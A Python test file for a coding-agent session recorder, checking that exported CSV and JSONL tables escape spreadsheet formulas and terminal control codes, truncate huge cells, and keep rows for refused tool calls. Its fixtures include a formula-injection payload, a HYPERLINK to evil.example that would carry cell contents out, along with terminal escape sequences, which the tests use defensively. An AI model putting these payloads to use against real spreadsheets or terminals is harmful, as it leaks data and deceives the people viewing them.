"""Corpus tables hold what models, servers and tools said: a CSV cell is never a formula
nor a terminal escape, a huge cell is cut and says so, and every tool call the model asked
for has a row, refused ones included (issue 18, items 6, 12 and 12b)."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

from nano_code.session.corpus import SessionTables, session_tables
from nano_code.session.corpus_files import write_table
from nano_code.session.table_cells import CELL_CHARS, csv_text
from nano_code.testing import FakeServer, reply, run

HOSTILE_TASK = '=HYPERLINK("http://evil.example/?"&A1,"click")\x1b]0;pwned\x07'


def record(path: Path, workspace: Path, script: list[dict[str, Any]], task: str) -> None:
    workspace.mkdir(exist_ok=True)
    with FakeServer(script) as server:
        run(task, base_url=server.base_url, workspace=workspace, record_to=path)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def hostile_session(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.yaml"
    calls = [
        {"id": "-2+3", "name": "no_such_tool", "arguments": {"x": 1}},
        {"id": "@SUM(1)", "name": "read_file", "arguments": "{not json"},
        {"id": "=1+1", "name": "shell", "arguments": {"command": "echo hi"}},
    ]
    record(path, tmp_path / "ws", [reply(tool_calls=calls), reply("+done\r\n\x1b[2J")], HOSTILE_TASK)
    return path


def test_no_csv_cell_is_a_formula_or_a_terminal_escape(tmp_path: Path) -> None:
    path = hostile_session(tmp_path)
    for table in ("sessions", "tool_calls"):
        target = tmp_path / f"{table}.csv"
        write_table([session_tables(path)], target)
        raw = target.read_text(encoding="utf-8")
        assert "\x1b" not in raw and "\x07" not in raw
        for row in read_csv(target):
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (table, value)
    session = read_csv(tmp_path / "sessions.csv")[0]
    assert session["task"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")\\x1b]0;pwned\\x07'
    assert session["n_tool_calls"] == "3"


def test_calls_the_kernel_refused_have_rows(tmp_path: Path) -> None:
    """An unknown tool and unusable arguments never reach the driver; the table still has them."""
    tables = session_tables(hostile_session(tmp_path))
    calls = tables.tool_calls
    assert [c["call_id"] for c in calls] == ["-2+3", "@SUM(1)", "=1+1"]
    assert [c["tool"] for c in calls] == ["no_such_tool", "read_file", "shell"]
    assert [c["outcome"] for c in calls] == ["refused", "refused", "ok"]
    assert calls[0]["arguments"] == '{"x": 1}' and calls[1]["arguments"] == "{not json"
    assert [c["step"] for c in calls] == [1, 1, 1] and calls[0]["line"] == tables.steps[0]["line"]
    target = tmp_path / "tool_calls.csv"
    write_table([tables], target)
    assert [r["call_id"] for r in read_csv(target)] == ["'-2+3", "'@SUM(1)", "'=1+1"]


def test_text_that_a_spreadsheet_would_evaluate_is_marked() -> None:
    assert csv_text("-1") == "'-1"
    assert csv_text("'quoted") == "''quoted"  # reversible: a leading ' was always added
    assert csv_text("\tx") == "'\tx" and csv_text("\uff1dSUM(A1)") == "'\uff1dSUM(A1)"
    assert csv_text("plain text, 1+1") == "plain text, 1+1"


def test_a_negative_number_is_written_as_a_number(tmp_path: Path) -> None:
    row = {"path": "p", "session_id": "s", "n_turns": -1, "task": "-1", "model": "@m"}
    one = SessionTables(session=row, steps=(), tool_calls=())
    target = tmp_path / "sessions.csv"
    write_table([one], target)
    written = read_csv(target)[0]
    assert (written["n_turns"], written["task"], written["model"]) == ("-1", "'-1", "'@m")


def test_a_huge_cell_is_cut_and_says_so(tmp_path: Path) -> None:
    path = tmp_path / "big.yaml"
    task = "x" * (CELL_CHARS * 3)
    huge = {
        "id": "c1",
        "name": "write_file",
        "arguments": {"path": "a.txt", "content": "y" * (CELL_CHARS * 2)},
    }
    record(path, tmp_path / "ws", [reply(tool_calls=[huge]), reply("done")], task)
    tables = session_tables(path)
    cell = tables.session["task"]
    assert len(cell) <= CELL_CHARS and cell.startswith("xxx")
    assert cell.endswith(f"[cut: {len(task):,} characters in all]")
    arguments = tables.tool_calls[0]["arguments"]
    assert len(arguments) <= CELL_CHARS and "characters in all]" in arguments
    for table in ("sessions", "tool_calls"):
        target = tmp_path / f"{table}.csv"
        write_table([tables], target)
        assert max(len(v) for row in read_csv(target) for v in row.values()) <= 32_767


def test_a_cell_escaped_past_the_bound_is_cut_again() -> None:
    cell = csv_text("\x1b" * CELL_CHARS)
    assert len(cell) <= CELL_CHARS and cell.startswith("\\x1b") and "characters in all]" in cell


def test_jsonl_escapes_what_json_leaves_raw(tmp_path: Path) -> None:
    row = {"path": "p", "session_id": "s", "task": "a\x9b31mb\u202ec\x1bd"}
    target = tmp_path / "corpus.jsonl"
    write_table([SessionTables(session=row, steps=(), tool_calls=())], target)
    text = target.read_text(encoding="utf-8")
    assert "\x9b" not in text and "\u202e" not in text and "\x1b" not in text
    assert json.loads(text)["task"] == "a\x9b31mb\u202ec\x1bd"
